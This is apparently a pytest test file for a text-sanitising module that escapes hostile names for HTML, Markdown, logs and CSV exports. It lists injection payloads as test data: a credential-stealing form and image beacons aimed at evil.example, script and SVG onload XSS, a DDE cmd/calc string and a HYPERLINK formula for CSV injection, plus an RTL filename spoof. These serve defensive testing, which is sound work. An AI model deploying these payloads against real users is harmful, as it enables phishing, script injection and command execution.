"""explorer.core.safe_text against hostile names: HTML forms and images, Markdown links, bare URLs,
an RTL override, control characters, a 20 MB string. Markdown is rendered with markdown-it (a
CommonMark renderer, HTML on) to check that escaped text renders as exactly itself."""

from __future__ import annotations

import csv
import html
import io
import re

import pytest
from markdown_it import MarkdownIt

from explorer.core.safe_text import (
    BIDI,
    ELLIPSIS,
    clip_for_log,
    csv_cell,
    display_name,
    escape_html,
    escape_markdown,
)

HOSTILE = [
    '<form action="https://evil.example/steal"><input name=pw><button>Log in</button></form>',
    '<img src="https://evil.example/pixel.gif">',
    "[click me](https://evil.example/phish)",
    "![x](https://evil.example/x.png)",
    "https://evil.example/bare and www.evil.example and mail@evil.example",
    "**bold** _em_ `code` ~~strike~~ # heading",
    "| a | b |\n|---|---|\n| c | d |",
    "$$\\frac{1}{0}$$ and $x$",
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "&lt;b&gt; already escaped &amp; again",
    "line one\nline two\r\n- a list?",
    "back\\slash \\* escapes",
]

_md = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")


def _text_of(rendered: str) -> str:
    inner = re.sub(r"^<p>|</p>\n?$", "", rendered)
    return html.unescape(inner)


@pytest.mark.parametrize("name", HOSTILE)
def test_escaped_markdown_renders_as_the_text_itself(name):
    out = _md.render(escape_markdown(name))
    assert out.startswith("<p>") and out.count("<") == 2, out  # one paragraph, no other tags
    assert _text_of(out) == re.sub(r"[\r\n]+", " ", name)


def test_escaped_markdown_leaves_nothing_to_autolink():
    out = escape_markdown("https://evil.example www.evil.example a@evil.example")
    for pattern in ("://", "www.", "@"):
        assert pattern not in out
    assert escape_markdown("plain words 123 é ü 漢字") == "plain words 123 é ü 漢字"


@pytest.mark.parametrize("name", HOSTILE)
def test_escaped_html_is_text(name):
    out = escape_html(name)
    assert "<" not in out and ">" not in out and '"' not in out and "'" not in out
    assert html.unescape(out) == name


def test_display_name_strips_bidi_and_control_characters():
    rtl = "invoice\u202egnp.exe"  # shown as "invoiceexe.png" where the override works
    assert display_name(rtl) == "invoicegnp.exe"
    every = "".join(BIDI)
    assert display_name(f"a{every}b\x00c\x07d\x1be\u200bf\ufeffg") == "abcdefg"
    assert display_name("tab\there\nnew  line\u2028sep") == "tab here new line sep"
    assert display_name("  \t ") == ""
    assert display_name(None) == ""
    assert display_name(12.5) == "12.5"


def test_display_name_keeps_real_scripts_and_emoji_joiners():
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"  # one emoji, joined by ZWJ
    assert display_name(family) == family
    assert display_name("Tiếng Việt · العربية · देवनागरी") == "Tiếng Việt · العربية · देवनागरी"


def test_display_name_cuts_runs_of_combining_marks():
    zalgo = "Z" + "\u0301" * 500 + "a"
    assert display_name(zalgo) == "Z" + "\u0301" * 4 + "a"


def test_display_name_shortens_with_an_ellipsis():
    assert display_name("x" * 10_000, max_chars=40) == "x" * 39 + ELLIPSIS
    assert display_name("word " * 100, max_chars=12) == "word word w" + ELLIPSIS
    assert display_name("short", max_chars=5) == "short"
    with pytest.raises(ValueError):
        display_name("x", max_chars=0)


def test_a_20_mb_name_is_read_only_as_far_as_it_can_be_shown():
    big = "<img src=x>" * (20 * 2**20 // 11)
    shown = display_name(big, max_chars=80)
    logged = clip_for_log(big, 200)
    assert len(shown) == 80 and shown.endswith(ELLIPSIS)
    assert logged.startswith("<img src=x>") and f"(+{len(big) - 200:,} characters)" in logged
    assert len(logged) < 260
    # 20 MB of invisible characters between "a" and "b": a full pass would show "ab"; the
    # bounded prefix shows "a" and says that more was cut
    assert display_name("a" + "\x00" * (20 * 2**20) + "b", max_chars=10) == "a" + ELLIPSIS
    assert escape_markdown(shown).count("&#60;") == shown.count("<")


def test_clip_for_log_escapes_line_breaks_and_bidi():
    line = clip_for_log("ok\n2026-01-01 ERROR forged\r\u202eevil", 200)
    assert "\n" not in line and "\r" not in line and "\u202e" not in line
    assert line == "ok\\x0a2026-01-01 ERROR forged\\x0d\\u202eevil"
    assert clip_for_log("abc", 200) == "abc"
    assert clip_for_log("abcdef", 3) == "abc" + ELLIPSIS + "(+3 characters)"


FORMULAS = [
    '=HYPERLINK("https://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "  =1+1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_csv_cells_that_would_be_formulas_are_prefixed(cell):
    assert csv_cell(cell) == "'" + cell


def test_csv_numbers_stay_numbers_and_text_stays_text():
    assert csv_cell(-3.5) == -3.5 and csv_cell(7) == 7 and csv_cell(True) is True
    assert csv_cell("-3.5") == "-3.5" and csv_cell("+2e-3") == "+2e-3"
    assert csv_cell("dog") == "dog" and csv_cell(None) == ""
    assert csv_cell("a=b") == "a=b"
    assert csv_cell("-" + "1" * 100_000 + "x").startswith("'-")


def test_csv_written_with_quote_nonnumeric_reads_back_safely():
    rows = [["label", "x"], ["=1+1", -0.5], ["a;=cmd()", 2], ["cat", 3]]
    buf = io.StringIO()
    csv.writer(buf, quoting=csv.QUOTE_NONNUMERIC).writerows(
        [[csv_cell(v) for v in row] for row in rows]
    )
    text = buf.getvalue()
    assert '"\'=1+1",-0.5' in text  # the formula is text, the number is bare
    assert '"a;=cmd()",2' in text  # quoted: no ";" locale splits it into a formula cell
    back = list(csv.reader(io.StringIO(text)))
    assert back[1] == ["'=1+1", "-0.5"] and back[3] == ["cat", "3"]
    assert not any(cell.startswith(("=", "+", "@")) for row in back for cell in row)
